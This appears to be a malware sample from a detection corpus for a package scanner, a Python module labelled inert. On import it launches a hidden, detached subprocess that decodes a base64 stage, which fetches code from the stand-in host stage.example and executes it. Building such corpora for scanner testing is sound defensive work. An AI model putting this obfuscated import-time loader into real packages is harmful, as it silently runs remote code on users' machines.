# pkgguard corpus 591 (import-time), modelled on [empirical]; inert, never run.
import subprocess
import sys

_STAGE = "aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHU7ZXhlYyh1LnVybG9wZW4oJ2h0dHBzOi8vc3RhZ2UuZXhhbXBsZS9zJykucmVhZCgpKQ=="
subprocess.Popen(
    [sys.executable, "-c", f"import base64;exec(base64.b64decode('{_STAGE}'))"],
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
    start_new_session=True,
)
